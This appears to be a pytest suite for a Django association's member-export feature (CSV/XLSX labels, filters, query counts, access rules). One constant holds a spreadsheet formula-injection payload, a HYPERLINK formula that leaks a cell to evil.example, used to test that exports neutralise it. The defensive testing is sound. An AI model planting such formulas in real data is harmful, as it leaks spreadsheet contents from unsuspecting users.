import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from members.enums import IaeType, MemberKind, MembershipStatus
from members.exports import neutralise_formula

from .factories import CollegeFactory, FeeFactory, MemberFactory, SiteFactory

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def export(client, file_format="csv", **params):
    return client.get(reverse("members:export", kwargs={"file_format": file_format}), params)


def csv_rows(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return list(sheet.iter_rows(values_only=True))


@pytest.fixture
def registry(db):
    """A local authority with two sites and unpaid fees, an ESS enterprise, and a prospect."""
    college = CollegeFactory(name="Collectivités")
    town = MemberFactory(
        name="Ville de Hayange", kind=MemberKind.LOCAL_AUTHORITY, legal_form="commune", naf_code="84.11Z",
        college=college, joined_on=date(2021, 3, 1),
    )  # fmt: skip
    SiteFactory(member=town, name="Mairie", commune="Hayange")
    SiteFactory(member=town, name="Centre technique", commune="Florange")
    FeeFactory(member=town, year=2025, amount_due=Decimal("250.00"), amount_paid=Decimal("100.00"))
    FeeFactory(member=town, year=2026, amount_due=Decimal("250.00"), amount_paid=Decimal("250.00"))
    ess = MemberFactory(name="Ressourcerie", kind=MemberKind.ESS_ENTERPRISE, is_ess=True, iae_type=IaeType.ACI)
    SiteFactory(member=ess, commune="Thionville")
    MemberFactory(name="Prospect SARL", status=MembershipStatus.PROSPECT)
    return {"town": town, "ess": ess}


# --- neutralise_formula -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL_NAME, "'" + EVIL_NAME),
        ("+33 3 82 00 00 00", "'+33 3 82 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Recyclerie = réemploi", "Recyclerie = réemploi"),
        ("", ""),
        (-12, -12),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_neutralise_formula_prefixes_only_text_a_spreadsheet_would_run(value, expected):
    assert neutralise_formula(value) == expected


# --- Content ----------------------------------------------------------------------------------------


def test_csv_export_is_utf8_with_bom_semicolons_and_a_dated_filename(client, coordinator, registry):
    client.force_login(coordinator)

    response = export(client, "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    filename = f"membres-{timezone.localdate():%Y-%m-%d}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    header, *rows = csv_rows(response)
    assert header[:4] == ["SIREN", "Raison sociale", "Nom court", "Type de structure"]
    assert len(rows) == 3


def test_csv_export_gives_one_row_per_member_with_french_labels_main_commune_site_count_and_fees(
    client, coordinator, registry
):
    client.force_login(coordinator)

    header, *rows = csv_rows(export(client, "csv", kind="local_authority"))

    [row] = rows
    town = dict(zip(header, row, strict=True))
    assert town["SIREN"] == registry["town"].siren
    assert town["Type de structure"] == "Collectivité territoriale"
    assert town["Forme juridique"] == "Commune"
    assert town["Statut d'adhésion"] == "Actif"
    assert town["Collège"] == "Collectivités"
    assert (town["Code NAF"], town["Libellé NAF"]) == ("84.11Z", "Administration publique générale")
    assert town["Adhérent depuis le"] == "01/03/2021"
    assert town["Commune du site principal"] == "Hayange"
    assert town["Nombre de sites"] == "2"
    assert town["Cotisations dues (€)"] == "150,00"
    assert town["Statut ESS"] == "non"


def test_xlsx_export_contains_the_filtered_members_only(client, coordinator, registry):
    client.force_login(coordinator)

    response = export(client, "xlsx", is_ess="true")

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'membres-{timezone.localdate():%Y-%m-%d}.xlsx"')
    header, *rows = xlsx_rows(response)
    [row] = rows
    ess = dict(zip(header, row, strict=True))
    assert ess["Raison sociale"] == "Ressourcerie"
    assert ess["Type de structure"] == "Entreprise de l'ESS"
    assert ess["Structure d'insertion"] == "ACI — atelier et chantier d'insertion"
    assert ess["Statut ESS"] == "oui"
    assert ess["Commune du site principal"] == "Thionville"
    assert ess["Nombre de sites"] == 1
    assert ess["Cotisations dues (€)"] == 0


def test_export_follows_the_search_status_and_ordering_of_the_member_list(client, coordinator, registry):
    client.force_login(coordinator)

    _header, *prospects = csv_rows(export(client, "csv", status="prospect"))
    _header, *found = csv_rows(export(client, "csv", q="hayange"))
    _header, *by_sites = csv_rows(export(client, "csv", ordering="-site_count"))

    assert [row[1] for row in prospects] == ["Prospect SARL"]
    assert [row[1] for row in found] == ["Ville de Hayange"]
    assert [row[1] for row in by_sites][0] == "Ville de Hayange"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_cells_are_neutralised_in_exports(client, coordinator, file_format):
    MemberFactory(name=EVIL_NAME, short_name="@cmd", website="https://ok.example")
    client.force_login(coordinator)

    response = export(client, file_format)

    header, row = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    member = dict(zip(header, row, strict=True))
    assert member["Raison sociale"] == "'" + EVIL_NAME
    assert member["Nom court"] == "'@cmd"
    if file_format == "xlsx":
        cell = load_workbook(io.BytesIO(response.content)).worksheets[0]["B2"]
        assert cell.data_type == "s"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_query_count_does_not_grow_with_the_number_of_members(client, coordinator, registry, file_format):
    client.force_login(coordinator)
    with CaptureQueriesContext(connection) as few_members:
        export(client, file_format)

    for n in range(20):
        SiteFactory(member=MemberFactory(college=CollegeFactory(name=f"Collège {n}")))
        FeeFactory(member=SiteFactory().member)
    with CaptureQueriesContext(connection) as many_members:
        response = export(client, file_format)

    assert len(csv_rows(response) if file_format == "csv" else xlsx_rows(response)) == 1 + 3 + 40
    assert len(many_members) == len(few_members)
    assert len(many_members) <= 8


# --- Permissions -------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("role", ["member", "member_viewer", "partner", "plain_user"])
def test_export_is_forbidden_to_everyone_but_the_coordinator(client, request, role, file_format):
    client.force_login(request.getfixturevalue(role))

    assert export(client, file_format).status_code == 403


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_anonymous_visitors_are_sent_to_login_from_exports(client, db, file_format):
    response = export(client, file_format)

    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))
